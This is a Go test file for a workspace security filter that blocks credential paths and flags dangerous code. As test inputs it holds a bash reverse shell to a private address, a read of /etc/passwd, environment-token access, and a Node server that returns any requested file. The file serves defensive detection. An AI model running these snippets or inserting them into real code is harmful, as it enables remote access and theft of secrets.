package workspace

import (
	"strings"
	"testing"
)

func TestCheckSensitivePath(t *testing.T) {
	blocked := []string{
		"/workspace/123/.env",
		"/workspace/123/.env.production",
		"/workspace/123/config/credentials.json",
		"/workspace/123/id_rsa",
		"/workspace/123/certs/server.pem",
		"/workspace/123/keys/signing.key",
		"/workspace/123/.ssh/config",
		"/run/secrets/telegram_token",
	}
	for _, path := range blocked {
		t.Run(path, func(t *testing.T) {
			got, reason := CheckSensitivePath(path)
			if !got {
				t.Errorf("expected %q to be blocked", path)
			}
			if got && reason == "" {
				t.Error("blocked path must carry a reason")
			}
		})
	}

	allowed := []string{
		"/workspace/123/readme.md",
		"/workspace/123/environment.md",
		"/workspace/123/keyboard.js",
		"/workspace/123/monkey.py",
	}
	for _, path := range allowed {
		t.Run(path, func(t *testing.T) {
			if got, reason := CheckSensitivePath(path); got {
				t.Errorf("expected %q to be allowed, got: %s", path, reason)
			}
		})
	}
}

func TestClassifyContent(t *testing.T) {
	t.Run("env access is dangerous", func(t *testing.T) {
		res := ClassifyContent(`const token = process.env.TELEGRAM_TOKEN;`)
		if !res.Dangerous {
			t.Fatal("expected process.env access to be flagged")
		}
		if !strings.Contains(res.Reason, "environment") {
			t.Errorf("reason should name env access, got %q", res.Reason)
		}
	})

	t.Run("dotenv load is dangerous", func(t *testing.T) {
		res := ClassifyContent(`require("dotenv").config();`)
		if !res.Dangerous {
			t.Fatal("expected dotenv load to be flagged")
		}
	})

	t.Run("reverse shell is dangerous", func(t *testing.T) {
		res := ClassifyContent(`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`)
		if !res.Dangerous {
			t.Fatal("expected reverse shell to be flagged")
		}
	})

	t.Run("etc read is dangerous", func(t *testing.T) {
		res := ClassifyContent(`data = open("/etc/passwd").read()`)
		if !res.Dangerous {
			t.Fatal("expected /etc read to be flagged")
		}
	})

	t.Run("plain code is fine", func(t *testing.T) {
		res := ClassifyContent("def add(a, b):\n    return a + b\n")
		if res.Dangerous {
			t.Fatalf("expected plain code to pass, got rule %s", res.Rule)
		}
	})

	t.Run("compound exfiltration server", func(t *testing.T) {
		code := `
const http = require("http");
const fs = require("fs");
http.createServer((req, res) => {
  const file = new URL(req.url, "http://x").searchParams.get("f");
  res.end(fs.readFileSync(file));
}).listen(8080);
`
		res := ClassifyContent(code)
		if !res.Dangerous {
			t.Fatal("expected exfiltration server to be flagged")
		}
		if res.Rule != "exfiltration-server" {
			t.Errorf("expected compound rule, got %s", res.Rule)
		}
	})

	t.Run("server without request path is fine", func(t *testing.T) {
		code := `
const http = require("http");
http.createServer((req, res) => {
  res.end("hello");
}).listen(8080);
`
		res := ClassifyContent(code)
		if res.Dangerous {
			t.Fatalf("expected static server to pass, got rule %s", res.Rule)
		}
	})
}
